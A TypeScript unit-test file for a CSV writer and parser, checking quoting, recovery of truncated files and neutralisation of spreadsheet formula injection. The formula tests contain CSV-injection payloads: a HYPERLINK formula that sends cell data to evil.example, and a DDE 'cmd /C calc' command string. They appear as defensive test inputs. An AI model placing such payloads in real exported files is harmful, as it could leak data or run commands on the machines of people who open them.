import { describe, expect, it } from 'vitest';
import { csvLine, parseCsv } from './csv.ts';

describe('csv', () => {
  it('reads back what it writes, quotes, commas and line breaks included', () => {
    const rows = [
      ['plain', 'with, comma', 'with "quotes"', 'two\nlines', ''],
      ['a', 'b', 'c', 'd', 'e'],
    ];
    expect(parseCsv(rows.map(csvLine).join(''))).toEqual(rows);
  });

  it('drops a last line a killed run left unfinished', () => {
    expect(parseCsv(`${csvLine(['a', 'b'])}"half, a`)).toEqual([['a', 'b']]);
  });
});

describe('csv formulas', () => {
  it('writes a cell a spreadsheet would run as a formula as text', () => {
    expect(
      csvLine(['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)']),
    ).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",'+1+1,'-2+3,'@SUM(A1:A9)\r\n`);
    expect(csvLine(['\t=1', '\r=1', "'=1", 'a=1', ''])).toBe(`'\t=1,"'\r=1",''=1,a=1,\r\n`);
  });

  it('leaves plain numbers as numbers', () => {
    expect(csvLine(['-12.50', '+3', '-.5', '-1e3', '-1-1'])).toBe(`-12.50,+3,-.5,-1e3,'-1-1\r\n`);
  });

  it('reads back exactly what it was given, so a resumed run knows its rows', () => {
    const row = ['=cmd|" /C calc"!A0', "'=x", "''+y", "'plain", '-12', '-', '@', "'"];
    expect(parseCsv(csvLine(row))).toEqual([row]);
  });
});
